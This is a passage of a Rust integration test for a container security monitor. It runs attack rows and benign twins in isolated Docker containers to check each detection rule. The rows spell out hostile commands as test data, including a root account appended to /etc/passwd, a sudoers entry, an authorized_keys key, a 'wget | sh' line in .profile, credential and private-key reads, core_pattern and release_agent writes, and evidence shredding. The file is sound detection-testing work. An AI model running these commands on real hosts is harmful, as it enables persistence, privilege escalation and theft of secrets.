//! The detection corpus: the default pack (`monitor run --rules rules/`)
//! against real Docker containers, one row of [`CASES`] per case.
//!
//! - Every rule of the pack has an attack row that raises exactly that rule
//!   and a benign twin (`twin_of`) that raises nothing; the test fails when a
//!   rule has neither (so a rule added to the pack needs its rows).
//! - The ordinary workloads raise no alert at all.
//! - A 100-port scan is one port-scan alert, its egress alerts folded in.
//!
//! One agent watches the whole table: each container row runs in a container
//! of its own (busybox, with the host's `/usr`, `/lib` and `/lib64`
//! read-only for python3, `--network none`), each host row in a host cgroup
//! of its own with tmpfs over what it writes (never the machine's files).
//! Alerts are attributed by container id, host alerts by the row's process
//! tree. A sentinel container (`nc`) run after every row has exited tells
//! when the agent has matched everything; the agent is then stopped and what
//! it flushes is counted too. Adding a case is adding a row.
//!
//! Some programs the rules name are not in the image (an SSH server, apk,
//! kubectl, xmrig, useradd): the image has busybox links of those names, which
//! exit with "applet not found". The rules match programs by name, so the
//! exec is the same as the real program's; those rows say so.
mod common;

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::Path,
    process::Command,
    time::{Duration, Instant},
};

use common::{
    Monitor, TestCgroup, docker,
    namespaces::{Isolation, Mount},
};
use serde_json::Value;

/// How a row's workload starts.
#[derive(Clone, Copy, Debug)]
enum Start {
    /// `docker run IMAGE /bin/sh -c SCRIPT`: the script is the entrypoint.
    Sh(&'static str),
    /// `docker run IMAGE ARGV...` (exec form: the program is the container's
    /// first process).
    Argv(&'static [&'static str]),
    /// The container runs `sleep`; then `docker exec CONTAINER ARGV...`.
    Exec(&'static [&'static str]),
    /// A host process: `/bin/sh -c SCRIPT` in a host cgroup of the test, in a
    /// private mount namespace with a tmpfs over each of `tmpfs`. `{scratch}`
    /// in the script is a scratch directory of the test.
    Host {
        tmpfs: &'static [&'static str],
        script: &'static str,
    },
}

/// One row of the corpus.
#[derive(Clone, Copy, Debug)]
struct Case {
    name: &'static str,
    /// Exactly the rules this row raises (first alerts; folded updates of
    /// them are allowed). Empty: silent.
    expect: &'static [&'static str],
    /// For a benign twin: the rule whose attack row it mirrors.
    twin_of: Option<&'static str>,
    /// The alerts are about a failed operation (`attempt: true`).
    attempt: bool,
    /// What every alert's summary must say ("" for no check).
    says: &'static str,
    start: Start,
}

impl Case {
    /// The row's alerts must say `text` in their summary.
    const fn says(self, text: &'static str) -> Case {
        Case { says: text, ..self }
    }
}

const fn attack(name: &'static str, rule: &'static [&'static str], start: Start) -> Case {
    Case {
        name,
        expect: rule,
        twin_of: None,
        attempt: false,
        says: "",
        start,
    }
}

/// An attack the kernel refuses, reported as an attempt.
const fn attempted(name: &'static str, rule: &'static [&'static str], start: Start) -> Case {
    Case {
        attempt: true,
        ..attack(name, rule, start)
    }
}

const fn twin(name: &'static str, of: &'static str, start: Start) -> Case {
    Case {
        name,
        expect: &[],
        twin_of: Some(of),
        attempt: false,
        says: "",
        start,
    }
}

const fn ordinary(name: &'static str, start: Start) -> Case {
    Case {
        name,
        expect: &[],
        twin_of: None,
        attempt: false,
        says: "",
        start,
    }
}

use Start::{Argv, Exec, Host, Sh};

const PY: &str = "/usr/bin/python3";

const CASES: &[Case] = &[
    // default/processes
    attack(
        "an SSH server (a busybox link named sshd)",
        &["ssh-server"],
        Sh("/sbin/sshd -D; exit 0"),
    ),
    twin(
        "an SSH client (a busybox link named ssh)",
        "ssh-server",
        Sh("/bin/ssh -V; exit 0"),
    ),
    attack(
        "apk add (a busybox link named apk)",
        &["package-manager"],
        Sh("/sbin/apk add curl; exit 0"),
    ),
    attack(
        "pip install (a busybox link named pip)",
        &["package-manager"],
        Sh("/bin/pip install requests; exit 0"),
    ),
    twin(
        "apk info, a query",
        "package-manager",
        Sh("/sbin/apk info; exit 0"),
    ),
    attack(
        "netcat to a local port",
        &["recon-tool"],
        Sh("/bin/nc -w 1 127.0.0.1 9 < /dev/null; exit 0"),
    ),
    attack(
        "busybox nc (the applet by its argument)",
        &["recon-tool"],
        Sh("/bin/busybox nc -w 1 127.0.0.1 9 < /dev/null; exit 0"),
    ),
    twin(
        "netstat listing listeners",
        "recon-tool",
        Sh("/bin/netstat -ltn > /dev/null"),
    ),
    attack(
        "docker exec of a shell",
        &["shell"],
        Exec(&["/bin/sh", "-c", "id > /dev/null"]),
    )
    .says("started into the running container from outside it"),
    attack(
        "a server running sh -c (command injection)",
        &["shell"],
        Argv(&[
            "/bin/sh",
            "-c",
            "/usr/bin/python3 /app/server.py inject; exit $?",
        ]),
    )
    .says("spawned by /usr/bin/python3"),
    attack(
        "a server as the first process running sh -c",
        &["shell"],
        Argv(&[PY, "/app/server.py", "inject"]),
    )
    .says("spawned by /usr/bin/python3"),
    twin(
        "the same shell as the entrypoint",
        "shell",
        Sh("id > /dev/null"),
    ),
    twin(
        "a server running a program that is not a shell",
        "shell",
        Argv(&[
            "/bin/sh",
            "-c",
            "/usr/bin/python3 /app/server.py spawn; exit $?",
        ]),
    ),
    // default/tools
    attack(
        "useradd (a busybox link named useradd)",
        &["account-tool"],
        Sh("/sbin/useradd eve; exit 0"),
    ),
    twin(
        "id of a user",
        "account-tool",
        Sh("/bin/id root > /dev/null"),
    ),
    attack(
        "insmod of a module",
        &["kernel-module-tool"],
        Sh("/bin/insmod /tmp/rootkit.ko; exit 0"),
    ),
    twin(
        "lsmod",
        "kernel-module-tool",
        Sh("/bin/lsmod > /dev/null; exit 0"),
    ),
    attack(
        "nsenter into pid 1's namespaces",
        &["namespace-tool", "namespace-change"],
        Sh("/bin/nsenter -t 1 -m -- /bin/true; exit 0"),
    ),
    attack(
        "unshare of a user namespace",
        &["namespace-tool", "namespace-change"],
        Sh("/bin/unshare -r /bin/true; exit 0"),
    ),
    attack(
        "mount of a filesystem",
        &["namespace-tool", "mount-syscall"],
        Sh("/bin/mount -t tmpfs none /mnt; exit 0"),
    ),
    attack(
        "chroot",
        &["namespace-tool"],
        Sh("/bin/chroot / /bin/true; exit 0"),
    ),
    twin(
        "mount with no arguments (a listing)",
        "namespace-tool",
        Sh("/bin/mount > /dev/null"),
    ),
    attack(
        "kubectl (a busybox link named kubectl)",
        &["cluster-client"],
        Sh("/bin/kubectl get pods; exit 0"),
    ),
    twin(
        "docker-entrypoint.sh, a script whose name starts like docker",
        "cluster-client",
        Argv(&["/docker-entrypoint.sh", "/bin/true"]),
    ),
    attack(
        "a search for private keys",
        &["credential-search"],
        Sh("/bin/find / -xdev -name 'id_rsa*' > /dev/null; exit 0"),
    ),
    attack(
        "cloud credentials read",
        &["credential-search"],
        Sh("/bin/cat /root/.aws/credentials 2> /dev/null; exit 0"),
    ),
    twin(
        "a search for log files",
        "credential-search",
        Sh("/bin/find /tmp -name '*.log' > /dev/null"),
    ),
    attack(
        "shred of a file",
        &["wiping-tool"],
        Sh("echo x > /tmp/evidence && /bin/shred -u /tmp/evidence"),
    ),
    twin(
        "rm of a file",
        "wiping-tool",
        Sh("echo x > /tmp/old && /bin/rm /tmp/old"),
    ),
    attack(
        "xmrig (a busybox link named xmrig)",
        &["crypto-miner"],
        Sh("/bin/xmrig --version; exit 0"),
    ),
    attack(
        "a stratum pool URL in argv",
        &["crypto-miner"],
        Argv(&[PY, "-c", "pass", "-o", "stratum+tcp://pool.example:3333"]),
    ),
    twin(
        "a database URL in argv",
        "crypto-miner",
        Argv(&[PY, "-c", "pass", "-o", "tcp://db.example:5432"]),
    ),
    // default/syscalls
    attack(
        "unshare from a program (refused by the seccomp profile)",
        &["namespace-change"],
        Argv(&[
            PY,
            "-c",
            "import ctypes; ctypes.CDLL(None).unshare(0x04000000)",
        ]),
    )
    .says("unshare"),
    twin(
        "a fork, no new namespaces",
        "namespace-change",
        Argv(&[
            PY,
            "-c",
            "import os\nif os.fork() == 0:\n    os._exit(0)\nos.wait()",
        ]),
    ),
    attack(
        "mount from a program (refused)",
        &["mount-syscall"],
        Argv(&[
            PY,
            "-c",
            "import ctypes; ctypes.CDLL(None).mount(b'none', b'/mnt', b'tmpfs', 0, None)",
        ]),
    ),
    twin(
        "reading the mount table",
        "mount-syscall",
        Sh("/bin/cat /proc/mounts > /dev/null"),
    ),
    attack(
        "bpf() from a program",
        &["kernel-module-or-bpf"],
        Argv(&[
            PY,
            "-c",
            "import ctypes; ctypes.CDLL(None).syscall(321, 0, 0, 0)",
        ]),
    ),
    twin(
        "asking the kernel's release",
        "kernel-module-or-bpf",
        Argv(&[PY, "-c", "import platform; platform.release()"]),
    ),
    attack(
        "a non-root process becoming root again",
        &["privilege-escalation"],
        Argv(&[
            PY,
            "-c",
            "import os; os.setresuid(1000, 1000, 0); os.setuid(0)",
        ]),
    ),
    twin(
        "root dropping to an unprivileged user",
        "privilege-escalation",
        Argv(&[PY, "-c", "import os; os.setgid(101); os.setuid(101)"]),
    ),
    attack(
        "ptrace",
        &["process-injection"],
        Argv(&[
            PY,
            "-c",
            "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)",
        ]),
    ),
    twin(
        "reading its own status",
        "process-injection",
        Sh("/bin/cat /proc/self/status > /dev/null"),
    ),
    attack(
        "userfaultfd",
        &["exploit-primitive"],
        Argv(&[PY, "-c", "import ctypes; ctypes.CDLL(None).syscall(323, 0)"]),
    ),
    twin(
        "an eventfd, an ordinary descriptor",
        "exploit-primitive",
        Argv(&[PY, "-c", "import os; os.close(os.eventfd(0))"]),
    ),
    // The agent runs with `--syscall-profile docker-default`: Docker's
    // seccomp profile refuses these (EPERM), and the attempt is the signal.
    attempted(
        "kexec_load, to boot another kernel",
        &["unexpected-syscall"],
        Argv(&[
            PY,
            "-c",
            "import ctypes; ctypes.CDLL(None).syscall(246, 0, 0, 0, 0)",
        ]),
    )
    .says("unexpected system call kexec_load (failed with EPERM)"),
    attempted(
        "reading the kernel's log with dmesg",
        &["unexpected-syscall"],
        // dmesg fails (EPERM) and says so: the row's exit stays 0.
        Sh("dmesg 2>&1 | grep -q 'not permitted'"),
    )
    .says("unexpected system call syslog"),
    twin(
        "the kernel's version from /proc",
        "unexpected-syscall",
        Sh("cat /proc/version; uname -a"),
    ),
    attack(
        "a packet socket",
        &["raw-socket"],
        Argv(&[
            PY,
            "-c",
            "import socket; socket.socket(17, socket.SOCK_RAW, 0).close()",
        ]),
    ),
    twin(
        "a TCP socket",
        "raw-socket",
        Argv(&[PY, "-c", "import socket; socket.socket().close()"]),
    ),
    attack(
        "a private key read",
        &["credential-read"],
        Sh(
            "mkdir -p /home/u/.ssh && echo k > /home/u/.ssh/id_rsa && /usr/bin/python3 -c \"open('/home/u/.ssh/id_rsa').read()\"",
        ),
    ),
    twin(
        "a public key read",
        "credential-read",
        Sh(
            "mkdir -p /home/u/.ssh && echo k > /home/u/.ssh/id_rsa.pub && /usr/bin/python3 -c \"open('/home/u/.ssh/id_rsa.pub').read()\"",
        ),
    ),
    attack(
        "a read of pid 1's environment",
        &["process-secrets-read"],
        // The trailing command keeps the shell as pid 1 (no exec of the last).
        Sh("/usr/bin/python3 -c \"open('/proc/1/environ').read()\"; true"),
    ),
    twin(
        "a process reading its own environment, by number and as self",
        "process-secrets-read",
        Argv(&[
            PY,
            "-c",
            "import os\nopen('/proc/self/environ').read()\nopen('/proc/%d/environ' % os.getpid()).read()",
        ]),
    ),
    attack(
        "a service-account token read",
        &["service-account-token-read"],
        Sh(
            "mkdir -p /tmp/serviceaccount && echo t > /tmp/serviceaccount/token && /usr/bin/python3 -c \"open('/tmp/serviceaccount/token').read()\"",
        ),
    ),
    twin(
        "a file named token elsewhere",
        "service-account-token-read",
        Sh(
            "mkdir -p /tmp/cache && echo t > /tmp/cache/token && /usr/bin/python3 -c \"open('/tmp/cache/token').read()\"",
        ),
    ),
    attack(
        "a connect to a socket named docker.sock",
        &["runtime-socket"],
        Argv(&[
            PY,
            "-c",
            "import socket\nl = socket.socket(socket.AF_UNIX); l.bind('/tmp/docker.sock'); l.listen()\nc = socket.socket(socket.AF_UNIX); c.connect('/tmp/docker.sock')",
        ]),
    ),
    twin(
        "a health check on its own unix socket",
        "runtime-socket",
        Argv(&[
            PY,
            "-c",
            "import socket\nl = socket.socket(socket.AF_UNIX); l.bind('/tmp/app.sock'); l.listen()\nc = socket.socket(socket.AF_UNIX); c.connect('/tmp/app.sock')",
        ]),
    ),
    // default/files
    attack(
        "an account appended to /etc/passwd",
        &["protected-write"],
        Sh("echo 'eve:x:0:0::/root:/bin/sh' >> /etc/passwd"),
    ),
    attack(
        "a write into /etc through a symlinked directory",
        &["protected-write"],
        Sh("ln -s /etc /tmp/e && echo 'eve:x:0:0::/:/bin/sh' >> /tmp/e/passwd"),
    ),
    twin(
        "the same write below /tmp",
        "protected-write",
        Sh("echo 'eve:x:0:0::/:/bin/sh' >> /tmp/passwd"),
    ),
    attack(
        "a job added to a crontab",
        &["crontab"],
        Sh("mkdir -p /etc/crontabs && echo '* * * * * /tmp/x' > /etc/crontabs/root"),
    ),
    twin(
        "crontab -l",
        "crontab",
        Sh("/bin/crontab -l 2> /dev/null; exit 0"),
    ),
    attack(
        "chmod u+s",
        &["setuid-bit"],
        Sh("cp /bin/busybox /tmp/sh2 && chmod u+s /tmp/sh2"),
    ),
    twin(
        "chmod 755",
        "setuid-bit",
        Sh("cp /bin/busybox /tmp/tool && chmod 755 /tmp/tool"),
    ),
    attack(
        "a file created below /dev",
        &["dev-write"],
        Sh("echo x > /dev/.hidden"),
    ),
    twin(
        "/dev/null and /dev/shm",
        "dev-write",
        Sh("echo x > /dev/null && echo x > /dev/shm/lock"),
    ),
    attempted(
        "core_pattern written (refused: EROFS)",
        &["kernel-interface-write"],
        Sh("echo '|/tmp/x' > /proc/sys/kernel/core_pattern; exit 0"),
    )
    .says("(failed: EROFS)"),
    attack(
        "a cgroup release_agent written",
        &["kernel-interface-write"],
        Sh("echo /tmp/x > /sys/fs/cgroup/release_agent; exit 0"),
    ),
    twin(
        "core_pattern read",
        "kernel-interface-write",
        Sh("cat /proc/sys/kernel/core_pattern > /dev/null"),
    ),
    attack(
        "a line appended to ~/.profile",
        &["shell-startup"],
        Sh("mkdir -p /root && echo 'wget -qO- x | sh' >> /root/.profile"),
    ),
    twin(
        "an application's dotfile in ~",
        "shell-startup",
        Sh("mkdir -p /root && echo 'theme: dark' >> /root/.apprc"),
    ),
    attack(
        "the shell history removed",
        &["shell-history"],
        Sh("mkdir -p /root && echo ls >> /root/.ash_history && rm /root/.ash_history"),
    ),
    twin(
        "the shell history appended to",
        "shell-history",
        Sh("mkdir -p /root && echo ls >> /root/.ash_history"),
    ),
    attack(
        "a symlink to /etc/shadow",
        &["sensitive-link"],
        Sh("ln -s /etc/shadow /tmp/s"),
    ),
    twin(
        "a symlink to /etc/hostname",
        "sensitive-link",
        Sh("ln -s /etc/hostname /tmp/h"),
    ),
    // default/detectors and default/fileless
    attack(
        "a binary written, then run",
        &["drift"],
        Sh("mkdir /tmp/d && cp /bin/busybox /tmp/d/busybox && /tmp/d/busybox true"),
    ),
    twin(
        "the image's own binary run",
        "drift",
        Sh("/bin/busybox true"),
    ),
    attack(
        "100 ports of one host in a burst",
        &["port-scan"],
        Argv(&[PY, "/app/server.py", "scan", "203.0.113.7", "20000", "100"]),
    ),
    twin(
        "a few local probes",
        "port-scan",
        Argv(&[
            PY,
            "/app/server.py",
            "connect",
            "127.0.0.1",
            "8080",
            "8081",
            "8082",
        ]),
    ),
    attack(
        "a memfd executed",
        &["memfd-exec"],
        Argv(&[PY, "/app/server.py", "memfd"]),
    ),
    twin(
        "an image binary executed by execv",
        "memfd-exec",
        Argv(&[PY, "/app/server.py", "execv"]),
    ),
    // default/egress
    attack(
        "a connect to a public address",
        &["egress"],
        Argv(&[PY, "/app/server.py", "connect", "203.0.113.7", "443"]),
    ),
    twin(
        "a connect inside the cluster",
        "egress",
        Argv(&[PY, "/app/server.py", "connect", "10.0.0.5", "5432"]),
    ),
    attack(
        "the cloud metadata service",
        &["cloud-metadata"],
        Argv(&[PY, "/app/server.py", "connect", "169.254.169.254", "80"]),
    ),
    twin(
        "the cluster's DNS over TCP",
        "cloud-metadata",
        Argv(&[PY, "/app/server.py", "connect", "10.0.0.10", "53"]),
    ),
    attack(
        "a stratum port off the host",
        &["mining-pool"],
        Argv(&[PY, "/app/server.py", "connect", "203.0.113.8", "3333"]),
    ),
    twin(
        "the same port on loopback",
        "mining-pool",
        Argv(&[PY, "/app/server.py", "connect", "127.0.0.1", "3333"]),
    ),
    // default/container-engine (host)
    attack(
        "daemon.json written",
        &["engine-config-write"],
        Host {
            tmpfs: &["/etc"],
            script: "mkdir /etc/docker && echo '{}' > /etc/docker/daemon.json",
        },
    ),
    twin(
        "daemon.json read",
        "engine-config-write",
        Host {
            tmpfs: &[],
            script: "cat /etc/docker/daemon.json > /dev/null 2>&1; exit 0",
        },
    ),
    attack(
        "runc replaced",
        &["engine-binary-write"],
        Host {
            tmpfs: &["/usr/local/bin"],
            script: "echo x > /usr/local/bin/runc",
        },
    ),
    twin(
        "a package upgrade replacing runc (under a script named dpkg)",
        "engine-binary-write",
        Host {
            tmpfs: &["/usr/local/bin"],
            script: "{scratch}/bin/dpkg /bin/sh -c 'echo x > /usr/local/bin/runc'",
        },
    ),
    twin(
        "another binary in the same directory",
        "engine-binary-write",
        Host {
            tmpfs: &["/usr/local/bin"],
            script: "echo x > /usr/local/bin/runme",
        },
    ),
    attack(
        "the engine's state written by a shell",
        &["engine-state-write"],
        Host {
            tmpfs: &["/var/lib"],
            script: "mkdir /var/lib/docker && echo x > /var/lib/docker/planted",
        },
    ),
    twin(
        "the engine's state written by the engine (a script named dockerd)",
        "engine-state-write",
        Host {
            tmpfs: &["/var/lib"],
            script: "mkdir /var/lib/docker && {scratch}/bin/dockerd /var/lib/docker/state",
        },
    ),
    // default/host-access (host)
    attack(
        "a member added to the docker group",
        &["group-change"],
        Host {
            tmpfs: &["/etc"],
            script: "echo 'docker:x:999:eve' >> /etc/group",
        },
    ),
    twin(
        "a package's maintainer script adding a group (under a script named dpkg)",
        "group-change",
        Host {
            tmpfs: &["/etc"],
            script: "{scratch}/bin/dpkg /bin/sh -c \"echo 'docker:x:999:' >> /etc/group\"",
        },
    ),
    twin(
        "the group file read",
        "group-change",
        Host {
            tmpfs: &[],
            script: "grep -q root /etc/group",
        },
    ),
    attack(
        "a sudoers drop-in",
        &["sudoers-change"],
        Host {
            tmpfs: &["/etc"],
            script: "mkdir /etc/sudoers.d && echo 'eve ALL=(ALL) ALL' > /etc/sudoers.d/eve",
        },
    ),
    twin(
        "a drop-in of another tool in /etc",
        "sudoers-change",
        Host {
            tmpfs: &["/etc"],
            script: "mkdir /etc/app.d && echo 'a: 1' > /etc/app.d/app.conf",
        },
    ),
    attack(
        "a key added to root's authorized_keys",
        &["ssh-access-change"],
        Host {
            tmpfs: &["/root"],
            script: "mkdir /root/.ssh && echo 'ssh-ed25519 AAAA eve' >> /root/.ssh/authorized_keys",
        },
    ),
    twin(
        "root's known_hosts appended to",
        "ssh-access-change",
        Host {
            tmpfs: &["/root"],
            script: "mkdir /root/.ssh && echo 'host ssh-ed25519 AAAA' >> /root/.ssh/known_hosts",
        },
    ),
    attack(
        "a setuid binary made on the host",
        &["host-setuid"],
        Host {
            tmpfs: &[],
            script: "cp /bin/true {scratch}/t1 && chmod u+s {scratch}/t1",
        },
    ),
    twin(
        "a binary made executable on the host",
        "host-setuid",
        Host {
            tmpfs: &[],
            script: "cp /bin/true {scratch}/t2 && chmod 755 {scratch}/t2",
        },
    ),
    // Ordinary workloads: no alert at all.
    ordinary("a shell entrypoint", Sh("echo hello; sleep 0.1")),
    ordinary(
        "temporary files",
        Sh("t=$(mktemp) && echo data > $t && mv $t $t.done && rm $t.done"),
    ),
    ordinary(
        "application logs",
        Sh(
            "mkdir -p /var/log/app && for i in 1 2 3; do echo line $i >> /var/log/app/app.log; done",
        ),
    ),
    ordinary(
        "a loopback connect",
        Argv(&[PY, "/app/server.py", "connect", "127.0.0.1", "5432"]),
    ),
    ordinary(
        "an entrypoint script that execs its server",
        Argv(&["/docker-entrypoint.sh", PY, "/app/server.py", "listen"]),
    ),
    ordinary(
        "JVM perf files in /tmp",
        Sh(
            "mkdir -p /tmp/hsperfdata_root && echo perf > /tmp/hsperfdata_root/1 && rm -r /tmp/hsperfdata_root",
        ),
    ),
    ordinary(
        "a pid file in /run",
        Sh("mkdir -p /run && echo $$ > /run/app.pid && rm /run/app.pid"),
    ),
    ordinary(
        "logrotate's copytruncate",
        Sh("mkdir -p /var/log/app && echo a >> /var/log/app/app.log \
            && cp /var/log/app/app.log /var/log/app/app.log.1 \
            && /bin/truncate -s 0 /var/log/app/app.log && gzip /var/log/app/app.log.1"),
    ),
    ordinary(
        "local health probes",
        Sh(
            "for i in 1 2 3; do /bin/wget -q -T 1 -O /dev/null http://127.0.0.1:8080/healthz; done; exit 0",
        ),
    ),
    ordinary(
        "__pycache__ written by an import",
        Sh("cd /app && /usr/bin/python3 -c 'import mod' && test -d /app/__pycache__"),
    ),
    ordinary(
        "git hooks made executable, never run",
        Sh(
            "mkdir -p /src/.git/hooks && echo '#!/bin/sh' > /src/.git/hooks/pre-commit \
            && chmod +x /src/.git/hooks/pre-commit",
        ),
    ),
    ordinary(
        "an atomic config rename",
        Sh(
            "mkdir -p /app/conf && echo 'a: 1' > /app/conf/app.yaml.tmp \
            && mv /app/conf/app.yaml.tmp /app/conf/app.yaml",
        ),
    ),
    ordinary(
        "a listener on loopback",
        Argv(&[PY, "/app/server.py", "listen"]),
    ),
    ordinary(
        "reading files",
        Sh("cat /etc/hostname /etc/hosts /etc/resolv.conf > /dev/null"),
    ),
    ordinary(
        "package queries (dpkg -l, rpm -q; pip a busybox link)",
        Sh("/bin/dpkg -l; /bin/rpm -q busybox; /bin/pip list; exit 0"),
    ),
    ordinary("nested shells", Sh("sh -c 'sh -c \"exit 0\"'")),
    ordinary(
        "an interpreter as the first process",
        Argv(&[PY, "-c", "print('ready')"]),
    ),
    ordinary(
        "a cache directory",
        Sh("mkdir -p /var/cache/app && echo x > /var/cache/app/item && rm -r /var/cache/app"),
    ),
    ordinary(
        "a database file in a data directory",
        Sh(
            "mkdir -p /var/lib/app && dd if=/dev/zero of=/var/lib/app/db bs=1k count=4 2> /dev/null",
        ),
    ),
    ordinary(
        "a tar archive made and unpacked in /tmp",
        Sh("tar -C /app -cf /tmp/app.tar . && mkdir /tmp/x && tar -C /tmp/x -xf /tmp/app.tar"),
    ),
    ordinary(
        "docker exec of a program that is not a shell",
        Exec(&["/bin/cat", "/etc/hostname"]),
    ),
    ordinary("a background job waited for", Sh("sleep 0.2 & wait")),
    ordinary("a fifo in /tmp", Sh("mkfifo /tmp/f && rm /tmp/f")),
    ordinary(
        "a shell under timeout and xargs",
        Sh("timeout 5 sh -c 'exit 0' && echo a b | xargs -n1 sh -c 'exit 0'"),
    ),
    ordinary(
        "/proc and mounts read",
        Sh("mount > /dev/null; cat /proc/self/status /proc/mounts > /dev/null"),
    ),
    ordinary(
        "config rendered with sed",
        Sh("echo 'port: PORT' > /tmp/tmpl && sed s/PORT/8080/ /tmp/tmpl > /tmp/app.yaml"),
    ),
];

/// Busybox links of programs the image does not have, where the rules match
/// them by name (see the module docs).
const NAME_ALIKES: &[&str] = &[
    "sbin/sshd",
    "bin/ssh",
    "sbin/apk",
    "sbin/useradd",
    "bin/kubectl",
    "bin/xmrig",
    "bin/pip",
];

/// The corpus image: busybox with a link in `/bin` for every applet, the
/// name-alikes, a root account, and the files
/// of `tests/corpus` (`/app/server.py`, `/app/mod.py`, `/docker-entrypoint.sh`).
fn corpus_rootfs(root: &Path) {
    for dir in ["bin", "sbin", "etc", "tmp", "app", "root"] {
        fs::create_dir_all(root.join(dir)).unwrap();
    }
    fs::set_permissions(root.join("tmp"), fs::Permissions::from_mode(0o1777)).unwrap();
    fs::copy(docker::busybox(), root.join("bin/busybox")).unwrap();
    fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n").unwrap();
    fs::write(root.join("etc/group"), "root:x:0:\n").unwrap();
    let list = Command::new(docker::busybox())
        .arg("--list")
        .output()
        .unwrap();
    for applet in String::from_utf8(list.stdout).unwrap().lines() {
        if applet != "busybox" && !applet.contains('/') && !applet.is_empty() {
            symlink("busybox", root.join("bin").join(applet)).unwrap();
        }
    }
    for alike in NAME_ALIKES {
        symlink("/bin/busybox", root.join(alike)).unwrap();
    }
    let here = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
    fs::copy(here.join("server.py"), root.join("app/server.py")).unwrap();
    fs::copy(here.join("mod.py"), root.join("app/mod.py")).unwrap();
    let entry = root.join("docker-entrypoint.sh");
    fs::copy(here.join("docker-entrypoint.sh"), &entry).unwrap();
    fs::set_permissions(&entry, fs::Permissions::from_mode(0o755)).unwrap();
}

const IMAGE: &str = "monitor-test/corpus:1";

/// Every container: no network but loopback, and the host's `/usr` and
/// libraries read-only for python3 (the image keeps its own programs in
/// `/bin` and `/sbin`).
const OPTIONS: &[&str] = &[
    "--network",
    "none",
    "-v",
    "/usr:/usr:ro",
    "-v",
    "/lib:/lib:ro",
    "-v",
    "/lib64:/lib64:ro",
];

/// Where a row ran, to attribute alerts to it.
enum Ran {
    Container(String),
    /// The host row's shell pid.
    Host(u32),
}

/// The pids of an alert's process and its ancestry.
fn pids(a: &Value) -> Vec<u64> {
    let p = &a["process"];
    std::iter::once(&p["pid"])
        .chain(
            p["ancestry"]
                .as_array()
                .map(|v| v.iter().map(|x| &x["pid"]).collect::<Vec<_>>())
                .unwrap_or_default(),
        )
        .filter_map(Value::as_u64)
        .collect()
}

fn brief(a: &Value) -> String {
    format!(
        "{}{} {}",
        a["rule"].as_str().unwrap_or("?"),
        if a["update_of"].is_null() {
            ""
        } else {
            "+update"
        },
        a["summary"].as_str().unwrap_or("?")
    )
}

#[test]
fn the_default_pack_on_real_containers() {
    if !common::kernel_tests_enabled("the_default_pack_on_real_containers") {
        return;
    }
    if let Some(install) = docker::missing() {
        let required = std::env::var("MONITOR_REQUIRE_KERNEL_TESTS").is_ok_and(|v| v == "1");
        assert!(!required, "the corpus needs Docker: {install}");
        eprintln!("SKIPPED the_default_pack_on_real_containers: Docker is missing ({install})");
        return;
    }
    let began = Instant::now();
    let rules_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    coverage(&rules_dir);

    let mut d = docker::Dockerd::start();
    let rootfs = d.scratch("corpus-rootfs");
    corpus_rootfs(&rootfs);
    d.import_rootfs(&rootfs, IMAGE);
    // The agent reads Docker's files under the host root, and host processes
    // in its proc.
    let host_root = common::tempdir();
    fs::create_dir_all(host_root.path().join("var/lib")).unwrap();
    symlink(&d.data_root, host_root.path().join("var/lib/docker")).unwrap();
    symlink("/proc", host_root.path().join("proc")).unwrap();
    let scratch_dir = common::tempdir();
    let scratch = scratch_dir.path().canonicalize().unwrap();
    fs::create_dir(scratch.join("bin")).unwrap();
    let dockerd = scratch.join("bin/dockerd");
    fs::write(&dockerd, "#!/bin/sh\necho state > \"$1\"\n").unwrap();
    fs::set_permissions(&dockerd, fs::Permissions::from_mode(0o755)).unwrap();
    // The package manager, as far as the rules can tell: runs its arguments.
    let dpkg = scratch.join("bin/dpkg");
    fs::write(&dpkg, "#!/bin/sh\n\"$@\"\n").unwrap();
    fs::set_permissions(&dpkg, fs::Permissions::from_mode(0o755)).unwrap();
    // The cgroupfs driver puts containers in /docker/<id>; host rows run in
    // the test's own tree.
    let docker_scope = common::cgroup2_mount().join("docker");
    fs::create_dir_all(&docker_scope).unwrap();
    let tree = TestCgroup::parent();
    let spool = scratch.join("spool");
    let mut m = Monitor::start(
        &[
            "run",
            "--rules",
            rules_dir.to_str().unwrap(),
            "--cgroup",
            docker_scope.to_str().unwrap(),
            "--cgroup",
            tree.path.to_str().unwrap(),
            "--host-root",
            host_root.path().to_str().unwrap(),
            "--spool-dir",
            spool.to_str().unwrap(),
            // Every row, benign or not, also judged against Docker's
            // default allowlist of system calls.
            "--syscall-profile",
            "docker-default",
        ],
        "running; alerts go to",
    );

    let tag = std::process::id();
    let mut ran: Vec<(usize, Ran)> = Vec::new();
    let mut failures: Vec<String> = Vec::new();
    for (i, case) in CASES.iter().enumerate() {
        let name = format!("monitor-corpus-{tag}-{i}");
        let id = match case.start {
            Sh(script) => d.run_with(&name, OPTIONS, IMAGE, &["/bin/sh", "-c", script]),
            Argv(argv) => d.run_with(&name, OPTIONS, IMAGE, argv),
            Exec(argv) => {
                let id = d.run_with(&name, OPTIONS, IMAGE, &["/bin/sleep", "60"]);
                // `docker run -d` returns once the container started; give
                // its first process a moment to be `sleep`.
                std::thread::sleep(Duration::from_millis(300));
                let mut args = vec!["exec", name.as_str()];
                args.extend_from_slice(argv);
                let out = d.docker(&args);
                if !out.status.success() {
                    failures.push(format!(
                        "{}: docker exec failed: {}",
                        case.name,
                        String::from_utf8_lossy(&out.stderr)
                    ));
                }
                d.docker_ok(&["kill", &name]);
                id
            }
            Host { tmpfs, script } => {
                let cg = tree.subdir(&format!("host-{i}"));
                let script = script.replace("{scratch}", scratch.to_str().unwrap());
                let isolation =
                    Isolation::mounts(tmpfs.iter().map(|t| Mount::Tmpfs((*t).into())).collect());
                let mut cmd = isolation.command_in(&cg.path, "/bin/sh");
                let child = cmd.args(["-c", &script]).spawn().unwrap();
                let pid = child.id();
                let out = child.wait_with_output().unwrap();
                if !out.status.success() {
                    failures.push(format!("{}: exited {:?}", case.name, out.status));
                }
                ran.push((i, Ran::Host(pid)));
                continue;
            }
        };
        ran.push((i, Ran::Container(id)));
    }
    // Every container row has exited (exec rows were killed): its events are
    // all in the ring buffer before the sentinel's.
    for (i, r) in &ran {
        if let Ran::Container(id) = r {
            let code = d.docker_ok(&["wait", id]);
